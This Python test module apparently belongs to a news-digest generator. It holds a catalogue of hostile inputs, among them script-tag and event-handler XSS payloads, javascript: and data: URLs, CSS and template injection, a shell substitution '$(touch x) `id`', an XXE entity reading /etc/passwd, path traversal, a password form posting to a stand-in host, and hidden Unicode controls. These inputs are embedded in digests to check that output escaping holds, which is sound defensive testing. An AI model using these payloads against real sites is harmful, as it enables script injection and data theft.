"""Texts of the web that want to be more than text: a plain list for every stage that writes something a program reads.

For each case: put its text where text of a source goes (`digest_of` puts it everywhere in a digest), do the same with
`shape(text)`, and compare: the same elements and attributes, and of the text what `characters.visible` leaves of it.
"""

from __future__ import annotations

from dataclasses import dataclass

from summarize.characters import visible
from summarize.model import (
    Article,
    Difference,
    Digest,
    Earlier,
    Line,
    Reason,
    Relevance,
    Section,
    Skipped,
    Story,
    Trend,
    Weight,
)


@dataclass(frozen=True)
class Case:
    """A text, and what it tries."""

    kind: str
    name: str
    text: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.name}"


_MARK = "window.broken=1"
_KINDS: dict[str, dict[str, str]] = {
    "script": {
        "an element": f"<script>{_MARK}</script>",
        "an element from elsewhere": "<script src=https://evil.invalid/x.js></script>",
        "in capitals": f"<ScRiPt>{_MARK}</sCrIpT>",
        "not closed": f"<script>{_MARK}//",
        "closing the page's own": f"</script></style><script>{_MARK}</script>",
        "behind the end of a title": f"</title><script>{_MARK}</script>",
        "within itself": f"<scr<script>ipt>{_MARK}</scr</script>ipt>",
        "a module": f'<script type="module">{_MARK}</script>',
        "in data for machines": '{"@type": "NewsArticle"}</script><script>window.broken=1</script>',
    },
    "handler": {
        "of a picture": f"<img src=x onerror={_MARK}>",
        "of a fold": f"<details open ontoggle={_MARK}>",
        "with a slash for a blank": f"<svg/onload={_MARK}>",
        "out of double quotes": f'" autofocus onfocus="{_MARK}',
        "out of single quotes": f"' onmouseover='{_MARK}",
        "without quotes": f"x onclick={_MARK} y",
        "with a grave accent": f"`onclick={_MARK}`",
        "of a body": f"<body onload={_MARK}>",
    },
    "address": {
        "javascript": f"javascript:{_MARK}",
        "javascript in mixed letters": f"JaVaScRiPt:{_MARK}",
        "javascript behind a blank": f" javascript:{_MARK}",
        "javascript with a tab in it": f"java\tscript:{_MARK}",
        "javascript with a null in it": f"java\x00script:{_MARK}",
        "javascript in entities": f"&#106;avascript:{_MARK}",
        "javascript in a link": f"<a href='javascript:{_MARK}'>여기</a>",
        "data": f"data:text/html,<script>{_MARK}</script>",
        "data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=",
        "vbscript": "vbscript:msgbox(1)",
        "file": "file:///etc/passwd",
        "of any host": "//evil.invalid/x",
        "with backslashes": "\\\\evil.invalid\\x",
        "that leaves its folder": "../../../etc/passwd",
        "that leaves its quotes": f'https://evil.invalid/" onclick="{_MARK}',
        "that leaves its brackets": "https://evil.invalid/) [x](javascript:1",
        "with a line break": "https://evil.invalid/\nX-Header: 1",
        "with a name and password": "https://bank.example@evil.invalid/",
        "without an end": "http://[::1",
    },
    "style": {
        "an element": "<style>*{display:none}</style>",
        "the end of the page's own": "</style><style>body{display:none}</style>",
        "an attribute": '" style="position:fixed;inset:0',
        "a rule": "} body { display: none } .x {",
        "an import": "@import url(https://evil.invalid/x.css);",
        "a picture": "background:url(https://evil.invalid/x.png)",
        "an expression": "width:expression(alert(1))",
        "a sheet": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    },
    "comment": {
        "open": "<!-- 여기부터",
        "closed": "--> 여기부터",
        "whole": "<!-- 주석 -->",
        "with a bang": "--!> <b>굵게</b>",
        "of an old browser": f"<!--[if IE]><script>{_MARK}</script><![endif]-->",
        "CDATA": f"<![CDATA[ <script>{_MARK}</script> ]]>",
        "the end of CDATA": "]]> 끝",
        "an instruction": "<?php echo 1 ?>",
        "an instruction of XML": '<?xml version="1.0"?>',
        "a document type": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    },
    "page": {
        "the end of everything": "</q></li></ul></details></main></body></html>",
        "a base": "<base href=https://evil.invalid/>",
        "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
        "a frame": "<iframe src=https://evil.invalid/></iframe>",
        "a frame with a page in it": f"<iframe srcdoc='<script>{_MARK}</script>'></iframe>",
        "an object": "<object data=https://evil.invalid/x></object><embed src=https://evil.invalid/x>",
        "a template": f"<template><script>{_MARK}</script></template>",
        "a noscript": f'<noscript><p title="</noscript><img src=x onerror={_MARK}>">',
        "a plaintext": "<plaintext> 나머지를 삼킨다",
        "a table": "<table><tr><td>칸</table>",
        "an id": '<b id="top" name="body">',
        "an editor's mark": "<편집자 주> 3 < 5, 7 > 5",
        "a lone bracket": "<",
        "half an element": "<a href=",
        "bold": "<b>굵게</b>",
    },
    "form": {
        "a form": "<form action=https://evil.invalid/><input name=password><button>보내기</button></form>",
        "a button": f"<button formaction=javascript:{_MARK}>확인</button>",
        "a text area": "<textarea> 나머지를 삼킨다",
        "a choice": "<select><option>하나<script>window.broken=1</script></select>",
        "an input": f"<input autofocus onfocus={_MARK}>",
    },
    "picture": {
        "one": "<img src=https://evil.invalid/x.png>",
        "of many sizes": '<img srcset="https://evil.invalid/x.png 2x">',
        "of a source": "<picture><source srcset=https://evil.invalid/x.webp></picture>",
        "a film": f"<video poster=https://evil.invalid/x><source onerror={_MARK}></video>",
        "in SVG": f"<svg><script>{_MARK}</script></svg>",
        "in SVG with a link": f'<svg><a xlink:href="javascript:{_MARK}"><text>누름</text></a></svg>',
        "in SVG that moves": f"<svg><animate onbegin={_MARK} attributeName=x dur=1s></svg>",
        "the end of a chart": "</text></svg><b>밖</b>",
        "in SVG with HTML": f"<svg><foreignObject><img src=x onerror={_MARK}></foreignObject></svg>",
        "in MathML": f'<math><maction xlink:href="javascript:{_MARK}">수식</maction></math>',
        "MathML that mutates": f"<math><mtext><table><mglyph><style><img src=x onerror={_MARK}>",
    },
    "entity": {
        "of HTML": "&lt;script&gt;", "already an ampersand": "&amp;", "a number": "&#60;b&#62;", "a hexadecimal number": "&#x3C;b&#x3E;",
        "half": "&#1", "without an end": "&copy 2026", "unknown": "&nosuch;", "of none": "&#0;", "twice": "&amp;lt;b&amp;gt;", "a plain ampersand": "R&D·시제품, A&B;C",
    },
    "template": {
        "an expression": "{{ 7*7 }}", "a statement": "{% raw %}", "a comment": "{# x #}", "an attribute": "{{ digest.__class__ }}", "of JavaScript": "${7*7}",
        "of a format": "{0.__class__} %s %(x)s", "of a server": "<%= 7*7 %>", "of a shell": "$(touch x) `id`", "of a spreadsheet": "=HYPERLINK(\"https://evil.invalid\")",
    },
    "markdown": {
        "a link": "[링크](http://a.kr)", "a link to a script": f"[누름](javascript:{_MARK})", "a link in brackets": "[[긴급]](http://evil.invalid)", "a link by name": "[a][b]", "a target": "[a]: http://a.kr",
        "a bracket that ends a link": "a](https://evil.invalid) [b", "brackets out of order": "[a]] (b)", "an editorial's brackets": "[사설] AI 시대", "brackets alone": "[단독]", "brackets at the end": "토론회 [전문]", "a bracket that opens": "여기 [", "a bracket that closes": "] 거기", "an automatic link": "<http://a.kr>", "a bare address": "http://a.kr/x", "a mailbox": "<a@b.kr> a@b.kr",
        "a picture": "![그림](https://evil.invalid/x.png)", "a footnote": "[^1]: 각주",
        "a heading": "# 제목", "a heading that ends": "## C#", "a heading underlined": "=====", "a rule": "---", "a rule of stars": "***", "a rule of underscores": "___",
        "a quotation": "> 인용", "a list": "* 별표", "a list of dashes": "- 5도까지 떨어졌다", "a minus": "-5도", "a plus": "+ 3%", "a date": "2026. 11. 20. 국회는 법안을 의결했다.", "a number": "1) 첫째", "numbers": "1. 2. 3.", "a long number": "10000000000. 열",
        "a star": "*별*", "bold": "**굵게**", "stars in a word": "가*나*다", "underlined": "_밑줄_", "underscores in words": "snake_case_name 가_나_다", "both": "***a_b*c__",
        "code": "`코드`", "a fence": "```", "a fence of tildes": "~~~", "indented code": "    코드", "a tab": "\t탭", "a break": "하나  \n둘", "two blanks and more": "하나   둘\n\n\n셋",
        "a backslash at the end": "끝\\", "escaped": "a\\*b \\(수식\\) C:\\new", "struck out": "~~취소~~ 정정", "a range": "20~21일, 30~40명", "subscript": "H~2~O ^위^ ==강조== :smile:", "a table": "| 표 | 표 |", "a table's rule": "|---|---|", "a definition": ": 정의",
        "attributes": "제목 {: onclick=x }", "HTML in it": f"**<b onclick={_MARK}>굵게</b>**", "HTML that asks for it": '<div markdown="1">*글*</div>', "quotation marks": "'작은' \"큰\" “굽은” ‘따옴표’", "a name in brackets": "(재)지역문화진흥원 100% ~10%~",
    },
    "hidden": {
        "right to left": "a\u202e거꾸로\u202c b", "an isolate": "\u2067안\u2069 밖", "marks of direction": "가\u200e나\u200f다\u061c라", "zero width": "가\u200b나\u200c다\u2060라\ufeff",
        "a joiner": "가\u200d나", "a soft hyphen": "인공\u00ad지능", "a filler": "가\u3164나\u115f다\uffa0", "nothing else": "\u200b\u202e\x00",
        "a null": "가\x00나", "an escape": "\x1b[31m빨강\x1b[0m", "a bell and a backspace": "가\x07\x08나", "a C1 control": "가\x9b31m나", "a form feed": "가\x0c나\x0b다", "a next line": "가\x85나", "a line separator": "가\u2028나\u2029다",
        "a blank that does not break": "가\u00a0나\u3000다", "an interlinear note": "가\ufff9나\ufffa다\ufffb", "a byte order mark first": "\ufeff가", "tag letters": "가\U000e0041\U000e007f나",
    },
    "letters": {
        "a family": "가족 👨\u200d👩\u200d👧 사진", "a flag": "🇰🇷 🏴\u200d☠️ 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "a heart with its style": "❤️ ☎︎ 1️⃣", "a tone": "👍🏽", "half a pair": "글\ud83d", "the other half": "\ude00글", "not a letter": "가\ufffe나\uffff",
        "Hangul in pieces": "\u1112\u1161\u11ab글", "many marks": "Z" + "\u0301\u0321" * 20, "old Hangul": "ᄒᆞᆫ글 ㆍ", "Chinese letters that are alike": "金 金 車 車", "private use": "가\ue000나", "the largest": "\U0010ffff",
        "a long word": "가" * 400, "a long word of Latin letters": "https" + "a" * 600, "a long row of marks": "=" * 200 + "…" * 200, "very long": "길고 긴 문장이다 " * 300, "nothing": "", "a blank": " ",
    },
}  # fmt: skip

CASES = [Case(kind, name, text) for kind, texts in _KINDS.items() for name, text in texts.items()]
# A letter that no template has.
LETTER = "힣"


def shape(text: str) -> str:
    """Return a harmless text of the same shape: a letter for each that is seen, blanks and slashes where they stand."""
    seen = "".join(char if char in " /" else LETTER for char in visible(text))
    return seen or ("\u200b" if text else "")


def digest_of(text: str, address: str | None = None) -> Digest:
    """Return a digest that says the text wherever a source, a profile or an archive can say something.

    `address` is that of an article, which need not be one; the text, if it is not given.
    """
    return Digest(
        text,
        "topic",
        text,
        "2026-11-16",
        "2026-11-20",
        {"documents": 1, "articles": 2, "relevant": 2, "stories": 1},
        (Section(text, (story_of(text, address),)),),
        (Skipped(f"폴더/{text}", text, text), Skipped(f"폴더/{text}.txt", "", text, unusable=False)),
        (Trend(text, 3, 1.5),),
        (Trend(text, 1, 2.5),),
    )


def story_of(text: str, address: str | None = None, number: int = 0) -> Story:
    """Return a story of two articles that says the text everywhere."""
    body = text or "빈 글"
    one = Article(
        f"a{number}", f"폴더/{text}.txt", text, (f"앞글 {body} 뒷글", body), (text,), "2026-11-20", "stated", text, text, text, "stated", f"https://a.kr/{text}"
    )  # fmt: skip
    two = Article(
        f"b{number}", f"폴더/{text}.html", text, (body,), author=f"{text} 기자", outlet="다른 매체", outlet_basis="inferred", url=text if address is None else address
    )  # fmt: skip
    lines = (
        Line(body, one.id, 3, 3 + len(body), (text, text)),
        Line(body, two.id, 0, len(body), (text,)),
    )
    judged = Relevance(0.9, True, text, (Reason(text, "title", 1.0),), 0.5)
    return Story(
        f"a{number}",
        text,
        (one, two),
        lines,
        (text, "열쇳말"),
        (text, "30억 원"),
        (text,),
        ((0,), (1,)),
        (judged, judged),
        (Difference(text, ((text, text), ("다른 말", "다른 매체"))),),
        Weight(0.5, 2, 0.5, 0.5, 0.5, 0.5),
        Earlier(text, "2026-11-09", "2026-11-15", f"../{text}", True),
    )
